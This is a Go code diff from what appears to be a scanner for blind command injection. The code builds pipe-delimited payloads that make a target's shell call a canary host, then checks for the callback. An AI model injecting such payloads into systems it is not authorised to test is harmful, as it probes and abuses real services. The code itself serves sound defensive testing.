@@ -12,10 +12,17 @@ import (
 
 // A bell is a command that a shell was asked to run: it rings at the canary.
 type bell struct {
+	way
 	slot    *slot
-	tool    tool
 	token   string
 	product int
+}
+
+// A way to a shell is a command, and the quotes that the text stands in there.
+type way struct {
+	tool   tool
+	quotes string
+	narrow bool // for where there is no room for all quotes
 }
 
 // rings are the calls for a bell. What asks for each URL that it reads in a
@@ -38,30 +45,36 @@ func tools() []tool {
 	}
 }
 
-// text has a shell run a command, whether the text stands in quotes of either
-// kind or in none; in none alone where there is no room for more. Like that of
-// shells it is no statement to a database.
-func (b bell) text(mark, host string, a, n, limit int) (string, bool) {
-	c := "|" + b.tool(host, fmt.Sprintf("/%s/$((%d*%d))", b.token, a, n)) + "|echo "
-	v := mark + c
-	if all := v + "'" + c + "'\"" + c + `"`; !strings.Contains(c, "'") && (limit < 0 || len(all) <= limit) {
-		v = all
+// ways begin with a text for all quotes.
+func ways() []way {
+	t := tools()
+	return []way{{t[0], all, false}, {t[0], "", true}, {t[0], "'", true}, {t[0], `"`, true}, {t[1], "", false}, {t[2], "", false}}
+}
+
+// all are quotes of either kind, or none.
+const all = "any"
+
+// text has a shell run a command. Like that of shells it is no statement to a
+// database.
+func (b bell) text(mark, host string, x, y int) string {
+	c := "|" + b.tool(host, fmt.Sprintf("/%s/$((%d*%d))", b.token, x, y)) + "|echo "
+	if b.quotes == all {
+		return mark + c + "'" + c + "'\"" + c + `"`
 	}
-	return v, limit < 0 || len(v) <= limit
+	return mark + b.quotes + c + b.quotes
 }
 
 // bell makes one for a slot, with the text that rings it.
-func (g *target) bell(c *trial.Canary, s *slot, use tool) (b bell, text string, fits bool) {
+func (g *target) bell(c *trial.Canary, s *slot, w way) (b bell, text string, fits bool) {
 	x, y := g.factors()
-	b = bell{slot: s, tool: use, token: c.Token(g.t), product: x * y}
-	text, fits = b.text(g.make.Mark(), c.Addr(), x, y, s.max)
-	return b, text, fits
+	b = bell{way: w, slot: s, token: c.Token(g.t), product: x * y}
+	text = b.text(g.make.Mark(), c.Addr(), x, y)
+	return b, text, s.max < 0 || len(text) <= s.max
 }
 
 // ring asks a shell behind the slots of an operation to call the canary: many
 // commands' output is shown to nobody.
-func (g *target) ring(ctx context.Context, c *trial.Canary) []bell {
-	var all []bell
+func (g *target) ring(ctx context.Context, c *trial.Canary) (bells []bell) {
 	// The path is for slots that say that they are a program's argument.
 	var slots []*slot
 	for _, s := range g.slots {
@@ -69,28 +82,34 @@ func (g *target) ring(ctx context.Context, c *trial.Canary) []bell {
 			slots = append(slots, s)
 		}
 	}
-	send := func(use tool, of []*slot) (rang, taken bool) {
-		d, first := g.fresh(), len(all)
+	roomy := map[*slot]bool{}
+	send := func(w way, of []*slot) (rang, taken bool) {
+		d, first := g.fresh(), len(bells)
 		for _, s := range of {
-			if b, text, fits := g.bell(c, s, use); fits {
-				d = d.With(s.Slot, text)
-				all = append(all, b)
+			if w.narrow && roomy[s] {
+				continue
 			}
+			b, text, fits := g.bell(c, s, w)
+			if fits {
+				d = d.With(s.Slot, text)
+				bells = append(bells, b)
+			}
+			roomy[s] = roomy[s] || fits && w.quotes == all
 		}
-		if len(all) == first {
+		if len(bells) == first {
 			return false, true
 		}
 		e, err := g.send(ctx, d)
 		if err != nil {
 			return true, true // enough was sent
 		}
-		for _, b := range all[first:] {
+		for _, b := range bells[first:] {
 			rang = rang || b.rings(c.Hits(b.token))
 		}
 		return rang, !refuses(e)
 	}
-	for i, use := range tools() {
-		rang, taken := send(use, slots)
+	for _, w := range ways() {
+		rang, taken := send(w, slots)
 		if rang {
 			break
 		}
@@ -98,16 +117,14 @@ func (g *target) ring(ctx context.Context, c *trial.Canary) []bell {
 			continue
 		}
 		// One of them is refused for what it is: each by itself.
-		if i > 0 {
-			break
-		}
 		for _, s := range slots {
-			if rang, _ = send(use, []*slot{s}); rang {
-				return all
+			if rang, _ = send(w, []*slot{s}); rang {
+				break
 			}
 		}
+		break
 	}
-	return all
+	return bells
 }
 
 // rang tells which of the bells were rung, and rings twice more.
@@ -118,7 +135,7 @@ func (g *target) rang(ctx context.Context, c *trial.Canary, bells []bell) *outco
 		}
 		var o *outcome
 		for range 2 {
-			again, text, _ := g.bell(c, b.slot, b.tool)
+			again, text, _ := g.bell(c, b.slot, b.way)
 			e, err := g.try(ctx, b.slot, text)
 			if err != nil {
 				return unclear(err)
